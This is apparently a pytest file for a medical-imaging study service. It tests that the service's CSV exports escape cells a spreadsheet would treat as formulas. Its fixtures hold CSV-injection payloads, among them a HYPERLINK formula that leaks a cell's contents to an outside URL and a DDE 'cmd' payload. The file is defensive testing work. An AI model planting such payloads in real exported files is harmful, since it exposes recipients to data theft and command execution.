"""Cells that a spreadsheet would calculate: neutral in every CSV that Carina writes, and read back as they were."""

import ast
import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from api.client import FindingsAnswer
from api.contract.models import ModelReference
from api.contract.study_list import StudySummary
from api.studies import findings_formats
from api.submissions.manifest import _as_csv
from deploy.cli import studies_formats, submissions
from shared.csv_cells import CsvWriter, neutral, plain
from shared.ids import new_id
from shared.vocabulary.states import JobState, ModelState
from tests.requirements import REPOSITORY

HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"see")'
#: The only module that may make a writer of the standard library's.
THE_WRITER = "shared/csv_cells.py"

FORMULAS = [
    HOSTILE,
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\r=1",
    "\rx",
    "\nx",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "\x1f=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    " ＝1",
    "﹦1",
    "'=1",
    "''=1",
]
TEXTS = ["", "a", "image.png", "a=1", "1-2", "'quoted'", "it's", "/archive/=1.png", "Zoë", "肺", '"=1"', "(-)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_may_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"
    assert plain(neutral(text)) == text


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text
    assert plain(text) == text


@example("'\r")
@given(st.text(st.sampled_from("=+-@'\t\r\n ax＝\u200b")))
def test_any_text_is_read_back_as_it_was(text: str) -> None:
    assert plain(neutral(text)) == text


def test_numbers_stay_numbers() -> None:
    file = io.StringIO()
    CsvWriter(file).write([-1, -0.5, None, "-1", 2])
    assert file.getvalue() == "-1,-0.5,,'-1,2\r\n"


def of_the_manifest(_: Path) -> str:
    return _as_csv([[0, HOSTILE, None, None, 1, "0a", "rejected:undecodable", HOSTILE, "1b", "2c", "3d", [HOSTILE]]])


def of_the_commands_manifest(folder: Path) -> str:
    row = dict.fromkeys(submissions.COLUMNS) | {"path": HOSTILE, "reason": HOSTILE, "flags": [HOSTILE]}
    submissions.write_manifest([row], folder / "manifest.csv")
    return (folder / "manifest.csv").read_text()


MODEL = ModelReference.model_construct(
    name=HOSTILE, digest="0a" * 32, state=ModelState.ACTIVE, trained_on=HOSTILE, warnings=[HOSTILE], id=new_id()
)


def of_findings(_: Path) -> str:
    finding = {"class_id": 0, "class_name": HOSTILE, "score": 0.5, "box_xyxy_px": (1, 2, 3, 4), "box_xyxy_mm": None}
    image = (
        FindingsAnswer.model_fields["images"]
        .annotation.__args__[0]
        .model_construct(
            image_id=new_id(),
            job_id=new_id(),
            state="succeeded",
            code=None,
            width_px=1,
            height_px=1,
            model=MODEL,
            is_authoritative=True,
            abnormality=None,
            pixel_spacing=None,
            flags=[HOSTILE],
            findings=[_Fields(finding)],
            other_results=[],
        )
    )
    study = FindingsAnswer.model_construct(study_id=new_id(), active_model=MODEL, images=[image])
    return "".join(findings_formats.write_csv([study], list))


def of_studies(_: Path) -> str:
    study = StudySummary.model_construct(
        id=new_id(),
        study_instance_uid=HOSTILE,
        created_at=datetime.now(UTC),
        image_count=1,
        state=JobState.SUCCEEDED,
        states={JobState.SUCCEEDED: 1},
        problems=[_Fields({"code": HOSTILE})],
        priority=5,
        abnormality=None,
        flags=[HOSTILE],
        findings=[_Fields({"class_name": HOSTILE, "score": 0.5})],
        review=None,
        model=MODEL,
        authoritative_results=1,
        other_results=[],
    )
    file = io.StringIO()
    studies_formats.write_csv([study], file)
    return file.getvalue()


class _Fields:
    def __init__(self, fields: dict[str, object]) -> None:
        self.__dict__.update(fields)


@pytest.mark.parametrize("write", [of_the_manifest, of_the_commands_manifest, of_findings, of_studies])
def test_no_csv_holds_a_formula(write: Callable[[Path], str], tmp_path: Path) -> None:
    cells = [cell for row in csv.reader(io.StringIO(write(tmp_path), newline="")) for cell in row]
    assert any(cell.startswith(f"'{HOSTILE}") for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@"))] == []


def test_only_one_module_writes_csv() -> None:
    found = []
    for room in ("api", "deploy", "shared", "trainer", "workers"):
        for path in (REPOSITORY / room).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in {"writer", "DictWriter"}
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    found.append(path.relative_to(REPOSITORY).as_posix())
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    found.append(path.relative_to(REPOSITORY).as_posix())
    assert found == [THE_WRITER]
